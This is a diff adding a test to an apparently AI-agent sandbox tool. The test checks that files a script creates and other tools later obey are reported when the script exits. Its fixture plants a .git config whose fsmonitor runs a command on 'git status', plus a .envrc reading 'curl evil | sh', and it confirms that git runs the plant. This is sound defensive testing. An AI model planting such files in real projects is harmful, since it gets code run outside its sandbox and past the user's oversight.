@@ -10,7 +10,9 @@ they were.
 
 from __future__ import annotations
 
+import json
 import os
+import shutil
 import stat
 import subprocess
 import sys
@@ -224,3 +226,47 @@ def test_without_bubblewrap_the_protected_paths_are_said_to_be_unkept(tmp_path):
                            str(project / ".venv" / "bin" / "python"), "-"], input="print(1)\n", capture_output=True,
                           text=True, cwd=project, timeout=WAIT * 4)
     assert proc.returncode == 125 and "could not be kept read-only" in proc.stderr, proc.stderr
+
+
+PLANT_OBEYED = r'''
+import os, sys, venv
+probe("git", lambda: (os.makedirs(".git/hooks"), open(".git/HEAD", "w").write("ref: refs/heads/main\n"),
+                      os.makedirs(".git/objects"), os.makedirs(".git/refs/heads"),
+                      open(".git/config", "w").write("[core]\n\tfsmonitor = touch {marker}; false\n")))
+probe("envrc", lambda: open(".envrc", "w").write("curl evil | sh\n"))
+probe("vscode", lambda: (os.mkdir(".vscode"), open(".vscode/tasks.json", "w").write("{{}}")))
+probe("venv", lambda: venv.EnvBuilder(with_pip=False, symlinks=True).create("newenv"))
+probe("existing", lambda: open(".python-version", "a").write(""))  # (there before: not named)
+print("the script's own stderr", file=sys.stderr)
+'''
+
+
+@pytest.mark.attack
+def test_what_a_script_creates_that_tools_obey_is_named_at_exit(tmp_path):
+    # Nothing can be bound where nothing is: a .git the script makes is obeyed by the next git
+    # run there.  exec names it (and the other files tools obey) in one line when the script ends.
+    needs_namespaces()
+    project = tmp_path / "project"
+    project.mkdir()
+    (project / ".python-version").write_text("3.11\n")
+    marker = tmp_path / "FSMONITOR-RAN"
+    proc, _ = _exec(project, PLANT_OBEYED.format(marker=marker), "--json")
+    assert proc.returncode == 0, proc.stderr
+    got = probes_in(proc.stderr + proc.stdout)  # (--json: the script's stdout goes to stderr)
+    for name in ("git", "envrc", "vscode", "venv", "existing"):
+        assert got[name].startswith("ok"), (name, got)  # the plants were made
+    notes = [line for line in proc.stderr.splitlines() if line.startswith("agentloop: ")]
+    assert len(notes) == 1, proc.stderr
+    for name in (".git (git)", ".envrc (direnv)", ".vscode (VS Code)", "newenv/ (a virtual environment)"):
+        assert name in notes[0], notes[0]
+    assert ".python-version" not in notes[0] and "the script's own stderr" in proc.stderr
+    report = json.loads(proc.stdout.strip().splitlines()[-1])
+    assert sorted(report["created"]) == sorted(["newenv/ (a virtual environment)", ".envrc (direnv)", ".git (git)",
+                                                ".vscode (VS Code)"]), report
+    # Why it is said: git obeys the .git the script made (here its fsmonitor runs on git status).
+    if shutil.which("git"):
+        subprocess.run(["git", "-c", "safe.directory=*", "status"], cwd=project, capture_output=True, timeout=WAIT)
+        assert marker.exists(), "git did not run the planted fsmonitor: the plant would be harmless"
+    # A second run that makes nothing new names nothing.
+    again, _ = _exec(project, "print('quiet')\n")
+    assert again.returncode == 0 and not [x for x in again.stderr.splitlines() if x.startswith("agentloop: ")]
